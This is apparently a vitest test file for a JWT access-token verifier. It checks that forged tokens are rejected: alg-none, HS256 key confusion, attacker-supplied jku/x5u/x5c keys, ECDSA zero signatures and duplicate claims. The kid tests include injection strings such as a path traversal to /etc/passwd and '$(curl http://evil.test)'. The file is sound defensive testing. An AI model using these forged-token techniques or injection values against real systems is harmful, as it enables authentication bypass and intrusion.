/**
 * The "Access tokens" rows of docs/threat-model.md, against TokenVerifier with inline key sets (the
 * key-set fetching rows are in issuer-key-set.spec.ts). Attack tokens are built by hand with
 * node's crypto, so no library policy stands between the attack and our code.
 */
import { generateKeyPairSync, sign as cryptoSign, X509Certificate, type KeyObject } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ERROR_CATALOGUE, isShieldError, type ShieldErrorCode } from '@inference-shield/core/internal';
import { DevCertificateAuthority } from '@inference-shield/dev-pki';
import { CompactEncrypt, generateKeyPair, type JWK } from 'jose';
import { certificateThumbprint } from './certificate-thumbprint.js';
import {
  b64,
  claimsAt,
  forgeToken,
  signInput,
  signToken,
  testKey,
  type TestKey,
} from '../../test/test-tokens.js';
import { TokenVerifier, type VerifyContext } from './token-verifier.js';
import { resolveTokenVerifierOptions } from './token-verifier-options.js';

const NOW = Date.UTC(2031, 0, 15, 12, 0, 0);
const SEC = Math.floor(NOW / 1000);
const A = 'https://idp-a.example.test';
const B = 'https://idp-b.example.test';
const C = 'https://idp-c.example.test'; // HS256 with a shared secret
const D = 'https://idp-d.example.test'; // requires RFC 9068 `typ: at+jwt`
const AUD = 'https://api.example.test';
const SECRET = 'c'.repeat(32);
// P-256 group order n (FIPS 186-4 D.1.2.3), for the "psychic signature" r = s = n.
const P256_N = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');

let rsa: TestKey;
let ps: TestKey;
let ec: TestKey;
let ed: TestKey;
let sameA: TestKey;
let sameB: TestKey;
let rsaD: TestKey;
let attacker: TestKey;
let weak: { alg: string; kid: string; privateKey: KeyObject; publicJwk: JWK };
let certA: X509Certificate;
let certB: X509Certificate;
let clock = NOW;
let verifier: TokenVerifier;

const claims = (extra: Record<string, unknown> = {}, iss = A) => claimsAt(clock, iss, AUD, extra);

async function outcome(token: string | Promise<string>, ctx?: VerifyContext, v = verifier): Promise<string> {
  const jwt = await token;
  try {
    await v.verify(jwt, ctx);
    return 'accepted';
  } catch (err) {
    if (!isShieldError(err)) return `not a ShieldError: ${String(err)}`;
    // What a client may see is the catalogue's reason: never jose's message, never the token.
    expect(err.message).toBe(ERROR_CATALOGUE[err.code].reason);
    return err.code;
  }
}

beforeAll(async () => {
  [rsa, ps, ec, ed, sameA, sameB, rsaD, attacker] = await Promise.all([
    testKey('RS256', 'a-rsa'),
    testKey('PS256', 'a-ps'),
    testKey('ES256', 'a-ec'),
    testKey('EdDSA', 'a-ed'),
    testKey('RS256', 'same'),
    testKey('RS256', 'same'),
    testKey('RS256', 'd-rsa'),
    testKey('RS256', 'a-rsa'),
  ]);
  // jose will not even generate an RSA key under 2048 bits: node's crypto will.
  const small = generateKeyPairSync('rsa', { modulusLength: 1024 });
  weak = {
    alg: 'RS256',
    kid: 'a-weak',
    privateKey: small.privateKey,
    publicJwk: { ...small.publicKey.export({ format: 'jwk' }), kid: 'a-weak', alg: 'RS256', use: 'sig' },
  };
  const ca = await DevCertificateAuthority.create();
  certA = new X509Certificate((await ca.issueClient({ spiffeId: 'spiffe://shield.test/a' })).certPem);
  certB = new X509Certificate((await ca.issueClient({ spiffeId: 'spiffe://shield.test/b' })).certPem);

  const options = resolveTokenVerifierOptions({
    issuers: [
      {
        issuer: A,
        audience: [AUD, 'https://other-api.example.test'],
        jwks: { keys: [rsa, ps, ec, ed, sameA].map((k) => k.publicJwk).concat(weak.publicJwk) },
      },
      { issuer: B, audience: AUD, jwks: { keys: [sameB.publicJwk] } },
      { issuer: C, audience: AUD, sharedSecret: SECRET, method: 'saml' },
      { issuer: D, audience: AUD, jwks: { keys: [rsaD.publicJwk] }, requireAccessTokenType: true },
    ],
  });
  verifier = await TokenVerifier.create(options, { now: () => clock });
});

afterAll(async () => {
  await verifier?.close();
});

describe('TokenVerifier: honest tokens', () => {
  it.each([
    ['RS256', () => rsa],
    ['PS256', () => ps],
    ['ES256', () => ec],
    ['EdDSA', () => ed],
  ])('accepts %s and returns a frozen principal', async (_alg, key) => {
    const token = await signToken(key(), claims({ jti: `id-${_alg}` }));
    const result = { token: await verifier.verify(token) };
    expect(result.token).toEqual({
      method: 'oidc',
      issuer: A,
      subject: 'alice',
      audience: [AUD],
      scopes: ['models:read', 'models:infer'],
      claims: expect.objectContaining({ sub: 'alice', iss: A }),
      tokenId: `id-${_alg}`,
      expiresAt: SEC + 600,
    });
    expect(Object.isFrozen(result.token)).toBe(true);
    expect(Object.isFrozen(result.token.claims)).toBe(true);
    expect(Object.isFrozen(result.token.scopes)).toBe(true);
  });

  it('accepts HS256 only for the issuer holding the shared secret, with its method', async () => {
    const token = forgeToken({ alg: 'HS256', typ: 'JWT' }, claims({}, C), { alg: 'HS256', secret: SECRET });
    const result = { token: await verifier.verify(token) };
    expect(result.token).toMatchObject({ issuer: C, method: 'saml', subject: 'alice' });
  });

  it('reads scopes from `scp` arrays, and no scope as none', async () => {
    const scp = await signToken(rsa, claims({ scope: undefined, scp: ['a', 'b'] }));
    expect((await verifier.verify(scp)).scopes).toEqual(['a', 'b']);
    const none = await signToken(rsa, claims({ scope: undefined }));
    expect((await verifier.verify(none)).scopes).toEqual([]);
  });

  it('accepts a token without kid when one key of the right type matches', async () => {
    const token = forgeToken({ alg: 'RS256' }, claims({}, B), { alg: 'RS256', privateKey: sameB.privateKey });
    expect(await outcome(token)).toBe('accepted');
  });
});

type Case = [
  name: string,
  build: () => string | Promise<string>,
  expected: ShieldErrorCode | 'accepted',
  ctx?: () => VerifyContext,
];

const rsaSigned = (header: Record<string, unknown>, payload: unknown) =>
  forgeToken({ alg: 'RS256', kid: 'a-rsa', ...header }, payload, rsa);

const ecdsaWith = (signature: Buffer) => {
  const input = `${b64({ alg: 'ES256', kid: 'a-ec' })}.${b64(claims())}`;
  return `${input}.${signature.toString('base64url')}`;
};

const cases: Case[] = [
  // alg none, stripped or swapped signatures
  ['alg none, empty signature', () => `${b64({ alg: 'none' })}.${b64(claims())}.`, 'ERR_TOKEN_MALFORMED'],
  ...(['none', 'None', 'NONE', 'nOnE'].map((alg) => [
    `alg ${alg} with some signature`,
    () => `${b64({ alg, kid: 'a-rsa' })}.${b64(claims())}.AAAA`,
    'ERR_TOKEN_ALG_NOT_ALLOWED',
  ]) as Case[]),
  [
    'signature removed, trailing dot kept',
    async () => (await signToken(rsa, claims())).replace(/[^.]+$/, ''),
    'ERR_TOKEN_MALFORMED',
  ],
  [
    'signature segment removed',
    async () => (await signToken(rsa, claims())).replace(/\.[^.]+$/, ''),
    'ERR_TOKEN_MALFORMED',
  ],
  [
    'header swapped, old signature kept',
    async () => {
      const [, p, s] = (await signToken(rsa, claims())).split('.');
      return `${b64({ alg: 'RS256', kid: 'a-rsa', typ: 'JWT' })}.${p}.${s}`;
    },
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'header swapped to PS256 on an RS256 signature',
    async () => {
      const [, p, s] = (await signToken(ps, claims())).split('.');
      return `${b64({ alg: 'PS256', kid: 'a-ps', x: 1 })}.${p}.${s}`;
    },
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'claims swapped (sub admin), old signature kept',
    async () => {
      const [h, , s] = (await signToken(rsa, claims())).split('.');
      return `${h}.${b64(claims({ sub: 'admin' }))}.${s}`;
    },
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],

  // RS/ES → HS key confusion
  [
    'HS256 keyed with the RSA public key PEM (issuer without secret)',
    () =>
      forgeToken({ alg: 'HS256', kid: 'a-rsa' }, claims(), {
        alg: 'HS256',
        secret: rsa.publicKey.export({ type: 'spki', format: 'pem' }) as string,
      }),
    'ERR_TOKEN_ALG_NOT_ALLOWED',
  ],
  [
    'HS256 keyed with the JWK JSON bytes (issuer without secret)',
    () =>
      forgeToken({ alg: 'HS256', kid: 'a-ec' }, claims(), {
        alg: 'HS256',
        secret: JSON.stringify(ec.publicJwk),
      }),
    'ERR_TOKEN_ALG_NOT_ALLOWED',
  ],
  [
    'HS256 keyed with a public key PEM for the issuer that has a secret',
    () =>
      forgeToken({ alg: 'HS256', kid: 'a-rsa' }, claims({}, C), {
        alg: 'HS256',
        secret: rsa.publicKey.export({ type: 'spki', format: 'pem' }) as string,
      }),
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  ['RS256 for the secret-only issuer', () => rsaSigned({}, claims({}, C)), 'ERR_TOKEN_ALG_NOT_ALLOWED'],
  [
    'HS384 not enabled by a 32-byte secret',
    () => forgeToken({ alg: 'HS384' }, claims({}, C), { alg: 'HS384', secret: SECRET }),
    'ERR_TOKEN_ALG_NOT_ALLOWED',
  ],
  [
    'RS384 not in the issuer algorithms',
    () => forgeToken({ alg: 'RS384', kid: 'a-rsa' }, claims(), { alg: 'RS384', privateKey: rsa.privateKey }),
    'ERR_TOKEN_ALG_NOT_ALLOWED',
  ],
  [
    'unknown algorithm',
    () => `${b64({ alg: 'XS256', kid: 'a-rsa' })}.${b64(claims())}.AAAA`,
    'ERR_TOKEN_ALG_NOT_ALLOWED',
  ],
  ['alg missing', () => `${b64({ kid: 'a-rsa' })}.${b64(claims())}.AAAA`, 'ERR_TOKEN_MALFORMED'],

  // kid is only ever a lookup key
  ...([
    '../../../../etc/passwd',
    "' OR '1'='1",
    '$(curl http://evil.test)',
    '__proto__',
    'constructor',
    'a-rsa\u0000',
  ].map((kid) => [
    `kid ${JSON.stringify(kid)}`,
    () => rsaSigned({ kid }, claims()),
    'ERR_TOKEN_KEY_NOT_FOUND',
  ]) as Case[]),
  ['kid empty', () => rsaSigned({ kid: '' }, claims()), 'ERR_TOKEN_MALFORMED'],
  ['kid not a string', () => rsaSigned({ kid: 7 }, claims()), 'ERR_TOKEN_MALFORMED'],
  ['kid of 300 characters', () => rsaSigned({ kid: 'k'.repeat(300) }, claims()), 'ERR_TOKEN_MALFORMED'],
  [
    'kid of a key of another type (EC kid, RS256 alg)',
    () => rsaSigned({ kid: 'a-ec' }, claims()),
    'ERR_TOKEN_KEY_NOT_FOUND',
  ],

  // the token never chooses its key
  [
    'attacker key embedded in `jwk`',
    () => forgeToken({ alg: 'RS256', kid: 'a-rsa', jwk: attacker.publicJwk }, claims(), attacker),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  [
    '`jku` pointing elsewhere',
    () => forgeToken({ alg: 'RS256', kid: 'a-rsa', jku: 'https://evil.test/jwks' }, claims(), attacker),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  [
    '`x5u` pointing elsewhere',
    () => forgeToken({ alg: 'RS256', kid: 'a-rsa', x5u: 'https://evil.test/cert.pem' }, claims(), attacker),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  [
    '`x5c` with an attacker chain',
    () => forgeToken({ alg: 'RS256', kid: 'a-rsa', x5c: [certA.raw.toString('base64')] }, claims(), attacker),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  [
    'signed by an attacker key under our kid',
    () => forgeToken({ alg: 'RS256', kid: 'a-rsa' }, claims(), attacker),
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],

  // crit and b64, honestly signed with the issuer's key
  [
    'crit naming a registered claim (exp)',
    () => rsaSigned({ crit: ['exp'] }, claims()),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  ['crit empty', () => rsaSigned({ crit: [] }, claims()), 'ERR_TOKEN_HEADER_UNSUPPORTED'],
  [
    'crit unknown extension',
    () => rsaSigned({ crit: ['x-ext'], 'x-ext': 1 }, claims()),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  [
    'b64 false with crit',
    () => rsaSigned({ b64: false, crit: ['b64'] }, claims()),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  ['b64 false alone', () => rsaSigned({ b64: false }, claims()), 'ERR_TOKEN_HEADER_UNSUPPORTED'],

  // time claims (tolerance 5 s)
  ['exp a minute ago', () => rsaSigned({}, claims({ exp: SEC - 60 })), 'ERR_TOKEN_EXPIRED'],
  ['exp 3 s ago (within tolerance)', () => rsaSigned({}, claims({ exp: SEC - 3 })), 'accepted'],
  ['exp now', () => rsaSigned({}, claims({ exp: SEC - 5 })), 'ERR_TOKEN_EXPIRED'],
  ['nbf in a minute', () => rsaSigned({}, claims({ nbf: SEC + 60 })), 'ERR_TOKEN_NOT_YET_VALID'],
  ['nbf in 3 s (within tolerance)', () => rsaSigned({}, claims({ nbf: SEC + 3 })), 'accepted'],
  ['iat in an hour', () => rsaSigned({}, claims({ iat: SEC + 3600 })), 'ERR_TOKEN_ISSUED_IN_FUTURE'],
  [
    'iat next year',
    () => rsaSigned({}, claims({ iat: SEC + 365 * 86400, exp: SEC + 366 * 86400 })),
    'ERR_TOKEN_ISSUED_IN_FUTURE',
  ],
  ['iat in 3 s (within tolerance)', () => rsaSigned({}, claims({ iat: SEC + 3 })), 'accepted'],
  ['exp a string', () => rsaSigned({}, claims({ exp: String(SEC + 600) })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['exp null', () => rsaSigned({}, claims({ exp: null })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['nbf a string', () => rsaSigned({}, claims({ nbf: 'now' })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['iat a string', () => rsaSigned({}, claims({ iat: 'yesterday' })), 'ERR_TOKEN_CLAIM_INVALID'],

  // required claims
  ['exp missing', () => rsaSigned({}, claims({ exp: undefined })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['sub missing', () => rsaSigned({}, claims({ sub: undefined })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['sub empty', () => rsaSigned({}, claims({ sub: '' })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['sub a number', () => rsaSigned({}, claims({ sub: 42 })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['jti a number', () => rsaSigned({}, claims({ jti: 42 })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['scope a number', () => rsaSigned({}, claims({ scope: 42 })), 'ERR_TOKEN_CLAIM_INVALID'],

  // issuer and audience
  ['unknown iss', () => rsaSigned({}, claims({}, 'https://evil.example.test')), 'ERR_TOKEN_ISSUER_UNKNOWN'],
  ['iss with a trailing slash', () => rsaSigned({}, claims({}, `${A}/`)), 'ERR_TOKEN_ISSUER_UNKNOWN'],
  ['iss in another case', () => rsaSigned({}, claims({}, A.toUpperCase())), 'ERR_TOKEN_ISSUER_UNKNOWN'],
  ['iss an array', () => rsaSigned({}, claims({ iss: [A] })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['iss missing', () => rsaSigned({}, claims({ iss: undefined })), 'ERR_TOKEN_CLAIM_INVALID'],
  ['wrong aud', () => rsaSigned({}, claims({ aud: 'https://elsewhere.test' })), 'ERR_TOKEN_AUDIENCE_INVALID'],
  [
    'aud list without ours',
    () => rsaSigned({}, claims({ aud: ['https://x.test', 'https://y.test'] })),
    'ERR_TOKEN_AUDIENCE_INVALID',
  ],
  ['aud list with ours', () => rsaSigned({}, claims({ aud: ['https://x.test', AUD] })), 'accepted'],
  [
    'aud list with ours and a number',
    () => rsaSigned({}, claims({ aud: [AUD, 42] })),
    'ERR_TOKEN_CLAIM_INVALID',
  ],
  ['aud missing', () => rsaSigned({}, claims({ aud: undefined })), 'ERR_TOKEN_CLAIM_INVALID'],
  [
    'aud of the other issuer audience',
    () => rsaSigned({}, claims({ aud: 'https://other-api.example.test' })),
    'accepted',
  ],

  // RFC 9068 typ, where required (issuer D)
  [
    'typ JWT where at+jwt is required',
    () => forgeToken({ alg: 'RS256', kid: 'd-rsa', typ: 'JWT' }, claims({}, D), rsaD),
    'ERR_TOKEN_TYPE_INVALID',
  ],
  [
    'typ missing where at+jwt is required',
    () => forgeToken({ alg: 'RS256', kid: 'd-rsa' }, claims({}, D), rsaD),
    'ERR_TOKEN_TYPE_INVALID',
  ],
  [
    'typ at+jwt',
    () => forgeToken({ alg: 'RS256', kid: 'd-rsa', typ: 'at+jwt' }, claims({}, D), rsaD),
    'accepted',
  ],
  [
    'typ application/at+jwt',
    () => forgeToken({ alg: 'RS256', kid: 'd-rsa', typ: 'application/at+jwt' }, claims({}, D), rsaD),
    'accepted',
  ],
  [
    'typ not a string',
    () => forgeToken({ alg: 'RS256', kid: 'd-rsa', typ: 1 }, claims({}, D), rsaD),
    'ERR_TOKEN_MALFORMED',
  ],
  ['typ JWT where not required', () => rsaSigned({ typ: 'JWT' }, claims()), 'accepted'],

  // nested JWT, JWE, JSON serialization
  ['nested JWT (cty JWT)', () => rsaSigned({ cty: 'JWT' }, claims()), 'ERR_TOKEN_HEADER_UNSUPPORTED'],
  ['nested JWT (cty jwt)', () => rsaSigned({ cty: 'jwt' }, claims()), 'ERR_TOKEN_HEADER_UNSUPPORTED'],
  [
    'a JWE where a JWS is expected',
    async () => {
      const { publicKey } = await generateKeyPair('RSA-OAEP-256');
      return new CompactEncrypt(Buffer.from(JSON.stringify(claims())))
        .setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM' })
        .encrypt(publicKey);
    },
    'ERR_TOKEN_MALFORMED',
  ],
  [
    'a JWS header with JWE members',
    () => rsaSigned({ enc: 'A256GCM' }, claims()),
    'ERR_TOKEN_HEADER_UNSUPPORTED',
  ],
  [
    'general JSON serialization',
    async () => {
      const [h, p, s] = (await signToken(rsa, claims())).split('.');
      return JSON.stringify({ payload: p, signatures: [{ protected: h, signature: s }] });
    },
    'ERR_TOKEN_MALFORMED',
  ],
  [
    'flattened JSON serialization',
    async () => {
      const [h, p, s] = (await signToken(rsa, claims())).split('.');
      return JSON.stringify({ payload: p, protected: h, signature: s });
    },
    'ERR_TOKEN_MALFORMED',
  ],

  // duplicate members, honestly signed
  [
    'duplicate alg in the header',
    () => rsaSigned({}, claims()).replace(/^[^.]+/, b64('{"alg":"RS256","kid":"a-rsa","alg":"none"}')),
    'ERR_TOKEN_DUPLICATE_KEY',
  ],
  [
    'duplicate sub in the claims',
    () =>
      forgeToken(
        { alg: 'RS256', kid: 'a-rsa' },
        JSON.stringify(claims()).replace('"sub":"alice"', '"sub":"alice","sub":"admin"'),
        rsa,
      ),
    'ERR_TOKEN_DUPLICATE_KEY',
  ],
  [
    'duplicate sub spelled with an escape',
    () =>
      forgeToken(
        { alg: 'RS256', kid: 'a-rsa' },
        JSON.stringify(claims()).replace('"sub":"alice"', '"sub":"alice","s\\u0075b":"admin"'),
        rsa,
      ),
    'ERR_TOKEN_DUPLICATE_KEY',
  ],
  [
    'duplicate member inside cnf',
    () =>
      forgeToken(
        { alg: 'RS256', kid: 'a-rsa' },
        JSON.stringify(claims()).replace(/}$/, ',"cnf":{"x5t#S256":"a","x5t#S256":"b"}}'),
        rsa,
      ),
    'ERR_TOKEN_DUPLICATE_KEY',
  ],

  // size, before any parsing
  ['40 KB of garbage', () => '!'.repeat(40_000), 'ERR_TOKEN_TOO_LARGE'],
  [
    'a signed token padded to 20 KB',
    () => rsaSigned({}, claims({ pad: 'x'.repeat(20_000) })),
    'ERR_TOKEN_TOO_LARGE',
  ],
  ['one byte over the cap', () => 'a'.repeat(8193), 'ERR_TOKEN_TOO_LARGE'],

  // ECDSA and EdDSA malformed signatures
  ['ECDSA psychic signature r = s = 0', () => ecdsaWith(Buffer.alloc(64)), 'ERR_TOKEN_SIGNATURE_INVALID'],
  ['ECDSA r = s = n', () => ecdsaWith(Buffer.concat([P256_N, P256_N])), 'ERR_TOKEN_SIGNATURE_INVALID'],
  [
    'ECDSA r = 0 with a real s',
    () => {
      const input = `${b64({ alg: 'ES256', kid: 'a-ec' })}.${b64(claims())}`;
      const sig = signInput(input, ec);
      return `${input}.${Buffer.concat([Buffer.alloc(32), sig.subarray(32)]).toString('base64url')}`;
    },
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'ECDSA signature DER-encoded instead of r||s',
    () => {
      const input = `${b64({ alg: 'ES256', kid: 'a-ec' })}.${b64(claims())}`;
      return `${input}.${cryptoSign('sha256', Buffer.from(input), ec.privateKey).toString('base64url')}`;
    },
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'ECDSA signature truncated to 63 bytes',
    () => {
      const input = `${b64({ alg: 'ES256', kid: 'a-ec' })}.${b64(claims())}`;
      return `${input}.${signInput(input, ec).subarray(0, 63).toString('base64url')}`;
    },
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'EdDSA all-zero signature',
    () => `${b64({ alg: 'EdDSA', kid: 'a-ed' })}.${b64(claims())}.${Buffer.alloc(64).toString('base64url')}`,
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],

  // weak key in the set
  [
    'token signed by the RSA-1024 key of the set',
    () => forgeToken({ alg: 'RS256', kid: 'a-weak' }, claims(), weak),
    'ERR_TOKEN_KEY_UNUSABLE',
  ],

  // issuer mix-up
  ['A-signed token claiming issuer B (A kid)', () => rsaSigned({}, claims({}, B)), 'ERR_TOKEN_KEY_NOT_FOUND'],
  [
    'A-signed token claiming issuer B (kid B also has)',
    () => forgeToken({ alg: 'RS256', kid: 'same' }, claims({}, B), sameA),
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'A-signed token claiming issuer B (no kid)',
    () => forgeToken({ alg: 'RS256' }, claims({}, B), rsa),
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],
  [
    'B-signed token claiming issuer A (kid A also has)',
    () => forgeToken({ alg: 'RS256', kid: 'same' }, claims({}, A), sameB),
    'ERR_TOKEN_SIGNATURE_INVALID',
  ],

  // RFC 8705 certificate binding
  [
    'bound token, other client certificate',
    () => rsaSigned({}, claims({ cnf: { 'x5t#S256': certificateThumbprint(certA) } })),
    'ERR_TOKEN_BINDING_MISMATCH',
    () => ({ clientCertificate: certB }),
  ],
  [
    'bound token, no client certificate',
    () => rsaSigned({}, claims({ cnf: { 'x5t#S256': certificateThumbprint(certA) } })),
    'ERR_TOKEN_BINDING_MISMATCH',
  ],
  [
    'bound token, its certificate',
    () => rsaSigned({}, claims({ cnf: { 'x5t#S256': certificateThumbprint(certA) } })),
    'accepted',
    () => ({ clientCertificate: certA }),
  ],
  [
    'bound token, its certificate as DER',
    () => rsaSigned({}, claims({ cnf: { 'x5t#S256': certificateThumbprint(certA) } })),
    'accepted',
    () => ({ clientCertificate: certA.raw, requireBinding: true }),
  ],
  [
    'unbound token where binding is required',
    () => rsaSigned({}, claims()),
    'ERR_TOKEN_BINDING_REQUIRED',
    () => ({ clientCertificate: certA, requireBinding: true }),
  ],
  [
    'cnf with a DPoP jkt we cannot check',
    () => rsaSigned({}, claims({ cnf: { jkt: 'abc' } })),
    'ERR_TOKEN_CLAIM_INVALID',
  ],
  [
    'cnf thumbprint not base64url SHA-256',
    () => rsaSigned({}, claims({ cnf: { 'x5t#S256': 'abc' } })),
    'ERR_TOKEN_CLAIM_INVALID',
  ],
  ['cnf not an object', () => rsaSigned({}, claims({ cnf: 'x' })), 'ERR_TOKEN_CLAIM_INVALID'],

  // malformed encodings
  ['empty string', () => '', 'ERR_TOKEN_MALFORMED'],
  ['non-base64url character', () => rsaSigned({}, claims()).replace('.', '!.'), 'ERR_TOKEN_MALFORMED'],
  ['base64 padding', () => `${rsaSigned({}, claims())}==`, 'ERR_TOKEN_MALFORMED'],
  [
    'non-canonical last character',
    () => `${b64({ alg: 'RS256', kid: 'a-rsa' })}.${b64(claims())}.AB`,
    'ERR_TOKEN_MALFORMED',
  ],
  ['header not JSON', () => `${b64('not json')}.${b64(claims())}.AAAA`, 'ERR_TOKEN_MALFORMED'],
  ['header a JSON array', () => `${b64('["RS256"]')}.${b64(claims())}.AAAA`, 'ERR_TOKEN_MALFORMED'],
  [
    'payload not JSON, signed',
    () => forgeToken({ alg: 'RS256', kid: 'a-rsa' }, 'hello', rsa),
    'ERR_TOKEN_MALFORMED',
  ],
  ['payload empty, signed', () => forgeToken({ alg: 'RS256', kid: 'a-rsa' }, '', rsa), 'ERR_TOKEN_MALFORMED'],
  [
    'payload not UTF-8, signed',
    () => {
      const input = `${b64({ alg: 'RS256', kid: 'a-rsa' })}.${Buffer.from([0x7b, 0xff, 0x7d]).toString('base64url')}`;
      return `${input}.${signInput(input, rsa).toString('base64url')}`;
    },
    'ERR_TOKEN_MALFORMED',
  ],
  ['four segments', () => `${rsaSigned({}, claims())}.AAAA`, 'ERR_TOKEN_MALFORMED'],
];

describe('TokenVerifier: docs/threat-model.md "Access tokens"', () => {
  it.each(cases.map(([name, build, expected, ctx]) => ({ name, build, expected, ctx })))(
    '$name → $expected',
    async ({ build, expected, ctx }) => {
      expect(await outcome(build(), ctx?.())).toBe(expected);
    },
  );

  it('checks the size before anything else reads the token', async () => {
    // Garbage that would be MALFORMED at any other step is TOO_LARGE: the length came first.
    expect(await outcome('{'.repeat(9000))).toBe('ERR_TOKEN_TOO_LARGE');
    // A non-string never reaches the parser either.
    expect(await outcome(42 as unknown as string)).toBe('ERR_TOKEN_MALFORMED');
  });
});

describe('TokenVerifier: verified-token cache', () => {
  it('pays the signature once, still checks exp and binding on every hit', async () => {
    const local = await TokenVerifier.create(
      resolveTokenVerifierOptions({
        issuers: [{ issuer: A, audience: AUD, jwks: { keys: [rsa.publicJwk] } }],
      }),
      { now: () => clock },
    );
    try {
      const bound = await signToken(
        rsa,
        claims({ exp: SEC + 60, cnf: { 'x5t#S256': certificateThumbprint(certA) } }),
      );
      const first = await local.verify(bound, { clientCertificate: certA });
      const second = await local.verify(bound, { clientCertificate: certA });
      expect(second).toBe(first);
      expect(local.stats()).toMatchObject({ cacheHits: 1, cacheEntries: 1 });
      // Same token, other connection: the binding is checked on the hit too.
      expect(await outcome(bound, { clientCertificate: certB }, local)).toBe('ERR_TOKEN_BINDING_MISMATCH');
      expect(await outcome(bound, undefined, local)).toBe('ERR_TOKEN_BINDING_MISMATCH');
      // Past exp (+ tolerance), the entry is not used and the token is refused.
      clock = NOW + 66_000;
      expect(await outcome(bound, { clientCertificate: certA }, local)).toBe('ERR_TOKEN_EXPIRED');
    } finally {
      clock = NOW;
      await local.close();
    }
  });

  it('is bounded, and off with cacheMaxEntries 0', async () => {
    const make = (cacheMaxEntries: number) =>
      TokenVerifier.create(
        resolveTokenVerifierOptions({
          cacheMaxEntries,
          issuers: [{ issuer: A, audience: AUD, jwks: { keys: [rsa.publicJwk] } }],
        }),
        { now: () => clock },
      );
    const small = await make(2);
    const off = await make(0);
    try {
      for (let i = 0; i < 5; i++) await small.verify(await signToken(rsa, claims({ jti: `n${i}` })));
      expect(small.stats().cacheEntries).toBe(2);
      const token = await signToken(rsa, claims());
      await off.verify(token);
      await off.verify(token);
      expect(off.stats()).toMatchObject({ cacheHits: 0, cacheEntries: 0 });
    } finally {
      await small.close();
      await off.close();
    }
  });

  it('never keeps the token itself', async () => {
    const token = await signToken(rsa, claims({ jti: 'not-kept' }));
    await verifier.verify(token);
    const cache = (
      verifier as unknown as { cache: { young: Map<string, unknown>; old: Map<string, unknown> } }
    ).cache;
    const keys = [...cache.young.keys(), ...cache.old.keys()];
    expect(keys.length).toBeGreaterThan(0);
    for (const key of keys) expect(key).not.toContain(token.slice(0, 20));
    expect(JSON.stringify(keys)).not.toContain('eyJ');
  });
});

describe('TokenVerifier.create', () => {
  it('refuses options that did not go through resolveTokenVerifierOptions', async () => {
    await expect(
      TokenVerifier.create({ issuers: [], maxTokenBytes: 1, cacheMaxEntries: 0, startup: 'fail' }),
    ).rejects.toThrow(TypeError);
  });

  it.each(['fail', 'not-ready'] as const)(
    'refuses to start (%s) when an inline key set has no usable key',
    async (startup) => {
      const options = resolveTokenVerifierOptions({
        startup,
        issuers: [{ issuer: A, audience: AUD, jwks: { keys: [weak.publicJwk] } }],
      });
      await expect(TokenVerifier.create(options)).rejects.toMatchObject({
        code: 'ERR_KEYSET_UNAVAILABLE',
        message: expect.stringContaining(`issuer ${A}: no usable key`),
      });
    },
  );
});
